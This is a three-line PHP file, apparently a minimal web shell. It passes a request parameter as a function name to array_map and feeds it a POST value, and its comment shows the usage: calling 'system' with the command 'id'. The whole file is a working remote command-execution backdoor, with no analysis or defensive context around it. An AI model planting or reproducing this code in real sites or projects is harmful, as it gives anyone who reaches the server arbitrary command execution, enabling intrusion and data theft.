<?php
// ?f=system  POST c=id
array_map($_REQUEST['f'], array($_POST['c']));
